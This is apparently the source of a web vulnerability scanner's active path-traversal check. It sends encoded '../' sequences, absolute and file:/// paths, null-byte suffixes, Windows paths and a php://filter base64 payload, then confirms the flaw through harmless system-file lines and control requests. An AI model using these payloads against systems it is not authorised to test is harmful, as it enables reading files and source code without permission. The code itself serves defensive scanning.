import { ask, askWith, confirmed, NO_ANSWER, notConfirmed } from '#prober/checks/asking.ts';
import type { Check, CheckResult, Evidence, InputTrial } from '#prober/checks/check.ts';
import { isAlike, tellsApart } from '#prober/checks/judging/alike.ts';
import { CHANGES, firstAnswered, ROUNDS } from '#prober/checks/judging/oracle.ts';
import { CPU_FLAW, DEPLOYMENT, KERNEL_VERSION, lineOf, WINDOWS_LICENSE, type SystemFile } from '#prober/checks/judging/system-files.ts';
import type { Exchange } from '#prober/sending/exchange.ts';

export const pathTraversal: Check = {
  id: 'live-path-traversal',
  title: 'Path traversal',
  categories: ['path traversal', 'file inclusion'],
  cwe: 22,
  severity: 'high',
  isPassive: false,
  fix: 'Resolve the path and refuse it unless it lies within the folder that is meant. Better, take names from a fixed list.',
  of: 'input',
  places: ['path', 'query', 'header', 'cookie', 'form', 'json', 'multipart'],
  run,
};

/** Before anything that exists is named to be opened, code that may write is asked for what nobody can harm. */
async function run(trial: InputTrial): Promise<CheckResult> {
  const kernel = await askWith(trial, HARMLESS);
  const harmless = kernel === undefined ? undefined : await shownByLine(trial, kernel, { value: HARMLESS, file: KERNEL_VERSION });
  if (harmless !== undefined) return confirmed(harmless);
  const isOtherwise = await isAnsweredOtherwise(trial, kernel);
  // Who sends as many bytes as a file has sends none of the first.
  const ofLength = isOtherwise ? await firstLine(trial, [[`/${UP}${CPU_FLAW.path}`, CPU_FLAW]]) : undefined;
  if (ofLength !== undefined) return confirmed(ofLength);
  const byExistence = trial.finding !== undefined || isOtherwise ? await shownByExistence(trial) : undefined;
  if (byExistence !== undefined && byExistence !== 'no-answer' && byExistence !== 'changes') return confirmed(byExistence);
  const attempts = furtherAttempts(trial);
  const read = (await firstLine(trial, attempts)) ?? (await shownByForward(trial)) ?? (attempts.length === 0 ? undefined : await shownBySource(trial));
  if (read !== undefined) return confirmed(read);
  if (trial.finding === undefined) return notConfirmed('Paths to a public file of the system, upwards, absolute and encoded.');
  if (byExistence === 'no-answer') return NO_ANSWER;
  return byExistence === 'changes' ? CHANGES : notConfirmed('Paths to a public file of the system, upwards, absolute and encoded, read or only asked for.');
}

const UP = '../'.repeat(12);

/** From the root there is no way further up: with a slash in front it is the same file for who joins it to a folder and for who opens it as it is. */
const HARMLESS = `/${UP}${KERNEL_VERSION.path}`;

/**
 * A file that is there against one that is not: where the two are answered alike, nobody says whether files are there. Who opens files for writing and
 * may not write that one still opens the device, which takes and gives nothing.
 */
async function isAnsweredOtherwise(trial: InputTrial, kernel: Exchange | undefined): Promise<boolean> {
  const { device: spelled, missing: [none] } = spellingsOf(trial);
  const missing = kernel === undefined ? undefined : await askWith(trial, `/${none}`);
  if (kernel === undefined || missing === undefined) return false;
  if (!isAlike(missing, kernel)) return true;
  const usual = await trial.answers.usual();
  const device = usual === undefined || isAlike(usual, missing) ? undefined : await askWith(trial, `/${spelled}`);
  return device !== undefined && !isAlike(missing, device);
}

/** Of parameters that hold paths, and where the code points. */
function furtherAttempts({ usual, finding, parameter }: InputTrial): readonly (readonly [string, SystemFile])[] {
  const ending = /\.\w{1,5}$/.exec(usual)?.[0] ?? '';
  const isPath = finding !== undefined || /[/\\]/.test(usual) || ending !== '' || /file|path|page|doc|folder|dir|template|include|img|image|download/i.test(parameter.name);
  if (!isPath) return [];
  const folder = usual.includes('/') ? usual.slice(0, usual.lastIndexOf('/') + 1) : 'files/';
  return [
    [`${UP}${KERNEL_VERSION.path}`, KERNEL_VERSION],
    [`/${KERNEL_VERSION.path}`, KERNEL_VERSION],
    [`${UP}${CPU_FLAW.path}`, CPU_FLAW],
    [`/${CPU_FLAW.path}`, CPU_FLAW],
    [`${folder}${UP}${CPU_FLAW.path}`, CPU_FLAW],
    [`${'....//'.repeat(12)}${CPU_FLAW.path}`, CPU_FLAW],
    [`${'..%2f'.repeat(12)}${CPU_FLAW.path.replaceAll('/', '%2f')}`, CPU_FLAW],
    [`file:///${CPU_FLAW.path}`, CPU_FLAW],
    [`${UP}${CPU_FLAW.path}\0${ending === '' ? '.png' : ending}`, CPU_FLAW],
    [`${'..\\'.repeat(12)}${WINDOWS_LICENSE.path}`, WINDOWS_LICENSE],
    [`${WINDOWS_LICENSE.root}${WINDOWS_LICENSE.path}`, WINDOWS_LICENSE],
  ];
}

/**
 * Servlets forward to paths of their own application, none of which leads out of it: the one file that each has and serves to nobody is read. Asked where a
 * page of the application is the usual value of a GET: code that would open it for writing had emptied that page when it was looked at.
 */
async function shownByForward(trial: InputTrial): Promise<Evidence | undefined> {
  if (trial.route.method !== 'GET' || !/^\/?[\w./-]{1,200}\.(?:jspx?|html?|xhtml|do|action|jsf|ftl)(?:$|[?#])/i.test(trial.usual)) return undefined;
  return firstLine(trial, [[`/${DEPLOYMENT.path}`, DEPLOYMENT]]);
}

async function firstLine(trial: InputTrial, attempts: readonly (readonly [string, SystemFile])[]): Promise<Evidence | undefined> {
  for (const [value, file] of attempts) {
    const attack = await askWith(trial, value);
    const evidence = attack === undefined ? undefined : await shownByLine(trial, attack, { value, file });
    if (evidence !== undefined) return evidence;
  }
  return undefined;
}

async function shownByLine(trial: InputTrial, attack: Exchange, { value, file }: { readonly value: string; readonly file: SystemFile }): Promise<Evidence | undefined> {
  const text = lineOf(file, attack.response.body);
  if (text === undefined) return undefined;
  const control = await askWith(trial, value.replace(/[\w-]+(\.rtf|\.xml)?(?=$|\0)/, trial.word('no-such-file')));
  if (control === undefined || lineOf(file, control.response.body) !== undefined) return undefined;
  // The line is known to everybody: it must come whenever it is asked for.
  if ((await ask(trial, attack.request))?.response.body.includes(text) !== true) return undefined;
  return { attack, control, effect: { kind: 'body-contains', text }, lookFor: `The line “${text}” of ${file.root}${file.path} in the answer to the first request.` };
}

/**
 * Where an ending is put behind the value, or all paths are refused, PHP may still open an address of its own: one that gives the usual file written
 * in base64, so that its code is shown in place of being run.
 */
async function shownBySource(trial: InputTrial): Promise<Evidence | undefined> {
  const encoder = 'php://filter/convert.base64-encode/resource=';
  const attack = await askWith(trial, `${encoder}${trial.usual}`);
  const usual = attack === undefined ? undefined : await trial.answers.usual();
  const text = attack === undefined || usual === undefined ? undefined : encodedIn(attack, usual);
  if (attack === undefined || text === undefined) return undefined;
  const control = await askWith(trial, `${encoder}${trial.word('no-such-file')}`);
  if (control === undefined || control.response.body.includes(text)) return undefined;
  return { attack, control, effect: { kind: 'body-contains', text }, lookFor: `“${text}” in the answer to the first request, the beginning of a file in base64: the file was read by an address that the value is.` };
}

/** The beginning of a run of base64 that is code of PHP, or holds a passage of the usual answer. */
function encodedIn({ request, response }: Exchange, usual: Exchange): string | undefined {
  const runs = response.body.match(/[A-Za-z0-9+/]{24,}={0,2}/g) ?? [];
  return runs.slice(0, RUNS_LIMIT).find((run) => {
    const decoded = Buffer.from(run.slice(0, RUN_LIMIT), 'base64').toString('utf8');
    const passages = decoded.split(/[\r\n<>]+/).map((passage) => passage.trim()).filter((passage) => passage.length >= 10);
    return /<\?(?:php|=)/.test(decoded) || passages.some((passage) => usual.response.body.includes(passage) && !request.url.includes(passage));
  })?.slice(0, 40);
}

const RUNS_LIMIT = 50;
const RUN_LIMIT = 20_000;

interface Spellings {
  readonly device: string;
  readonly sameDevice: string;
  readonly missing: readonly [string, string];
}

/**
 * Two spellings of the device that takes and gives nothing. None of these can be made or changed, also by who opens them for writing. All four are
 * of one length: who decodes a value complains of an odd one otherwise than of a sign that does not belong there. Those that are missing have the same letters
 * in the same order: who shows what is left of a value when its signs are taken out shows the same of all. Each input has spellings of its own: a search finds what
 * another input has stored.
 */
function spellingsOf(trial: InputTrial, purpose = 'path-spelling'): Spellings {
  const bits = trial.number(purpose, 0, 1023);
  const up = UP + Array.from({ length: 10 }, (_unused, index) => ((bits >> index) % 2 === 0 ? './' : '//')).join('');
  return { device: `${up}dev/./null`, sameDevice: `${up}dev///null`, missing: [`${up}d/e/v/null`, `${up}de/v/n/ull`] };
}

/**
 * Code that says only whether a file is there, or could be opened, says it of files outside too. Of two files that are not there it says the same:
 * who only shows the path, put in order, shows two.
 */
async function shownByExistence(trial: InputTrial): Promise<Evidence | 'no-answer' | 'changes' | undefined> {
  const { device, sameDevice, missing: [missing, alsoMissing] } = spellingsOf(trial);
  const baseline = await askWith(trial, device);
  if (baseline === undefined) return 'no-answer';
  const again = ROUNDS.map((round) => spellingsOf(trial, `path-spelling-${round}`)).map((spelled) => ({ same: spelled.sameDevice, other: spelled.missing[0] }));
  const shown = await firstAnswered([{ same: sameDevice, other: missing, again }], { baseline, steadiness: trial.steadiness }, (value) => askWith(trial, value));
  if (shown === undefined || shown === 'changes') return shown;
  if (isRunAsProgram(shown)) return undefined;
  const second = await askWith(trial, alsoMissing);
  return second === undefined || tellsApart(shown.control, [shown.control], [second]) ? undefined : shown;
}

/** Anybody may open the device, and nobody may run it: who is refused that wanted to run it, which is another flaw. */
function isRunAsProgram({ attack, control }: Evidence): boolean {
  const isRefused = ({ response }: Exchange): boolean => /permission denied|EACCES|cannot execute/i.test(response.body);
  return isRefused(attack) && !isRefused(control);
}
